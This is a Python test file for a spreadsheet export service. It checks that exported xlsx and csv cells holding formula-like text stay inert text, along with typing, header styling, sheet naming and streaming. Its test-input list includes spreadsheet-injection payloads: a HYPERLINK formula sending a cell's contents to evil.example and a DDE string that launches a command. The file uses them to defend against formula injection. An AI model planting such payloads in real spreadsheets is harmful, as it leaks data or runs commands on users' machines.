"""xlsx and csv out: readable in Excel, and never a formula whatever the text."""
import csv
import io
from datetime import date
from datetime import datetime

import pytest
from openpyxl import load_workbook

from services.exports import write_csv
from services.exports import write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def book_from(sheets, read_only=False):
    stream = io.BytesIO()
    write_xlsx(stream, sheets)
    stream.seek(0)
    return load_workbook(stream, read_only=read_only)


@pytest.mark.parametrize("read_only", [False, True])
def test_formula_like_text_is_stored_as_text_unchanged(read_only):
    book = book_from([("名单", ["值"], [[text] for text in DANGEROUS])], read_only=read_only)
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    book.close()
    # XML reads a carriage return back as a line feed; the text is otherwise intact
    assert [cell.value for cell in cells] == [t.replace("\r", "\n") for t in DANGEROUS]
    assert all(cell.data_type == "s" for cell in cells)


def test_formula_like_text_keeps_excels_text_marker():
    cell = book_from([("名单", ["值"], [[DANGEROUS[0]]])]).active["A2"]
    assert cell.data_type != "f"
    assert cell.quotePrefix is True


def test_formula_like_headers_are_text_with_the_marker():
    sheet = book_from([("名单", [DANGEROUS[0], "姓名"], [])]).active
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == (DANGEROUS[0], "s", True)
    assert sheet["B1"].quotePrefix is False


def test_plain_values_keep_their_types():
    rows = [["张三", 42, 1.5, date(2026, 9, 1), datetime(2026, 9, 1, 8, 30), None, True]]
    sheet = book_from([("名单", list("ABCDEFG"), rows)]).active
    values = [cell.value for cell in sheet[2]]
    assert values[:3] == ["张三", 42, 1.5]
    assert values[3].date() == date(2026, 9, 1)
    assert values[4] == datetime(2026, 9, 1, 8, 30)
    assert values[5] is None and values[6] is True
    assert sheet["A2"].quotePrefix is False


def test_header_is_bold_frozen_and_columns_sized():
    rows = [["T001", "一个相当长的学院名称用来测试列宽", "x" * 500]]
    sheet = book_from([("名单", ["工号/学号", "单位", "备注"], rows)]).active
    assert [c.value for c in sheet[1]] == ["工号/学号", "单位", "备注"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    widths = {k: sheet.column_dimensions[k].width for k in "ABC"}
    assert widths["B"] > widths["A"] >= 9  # Chinese characters count double
    assert widths["C"] == 60  # capped


def test_several_sheets_and_awkward_titles():
    book = book_from([("a/b:c*?[d]", ["x"], []), ("a/b:c*?[d]", ["x"], []), ("长" * 40, ["x"], [])])
    assert book.sheetnames == ["a_b_c___d_", "a_b_c___d_ (2)", "长" * 31]


def test_control_characters_do_not_break_the_file():
    sheet = book_from([("名单", ["x"], [["a\x00b\x07c"], ["=\x01"]])]).active
    assert [sheet["A2"].value, sheet["A3"].value] == ["abc", "="]


def test_a_large_sheet_streams_from_a_generator(tmp_path):
    path = tmp_path / "big.xlsx"
    write_xlsx(str(path), [("大表", ["n", "text"], ((n, f"=row{n}") for n in range(20000)))])
    book = load_workbook(path, read_only=True)
    rows = list(book.active.iter_rows(min_row=2, values_only=True))
    book.close()
    assert len(rows) == 20000 and rows[-1] == (19999, "=row19999")


def test_csv_prefixes_an_apostrophe_and_starts_with_a_bom():
    stream = io.StringIO()
    write_csv(stream, ["姓名", "备注"], [["张三", "=1+1"], ["李四", None], ["王五", "-5"]])
    text = stream.getvalue()
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["姓名", "备注"], ["张三", "'=1+1"], ["李四", ""], ["王五", "'-5"]]
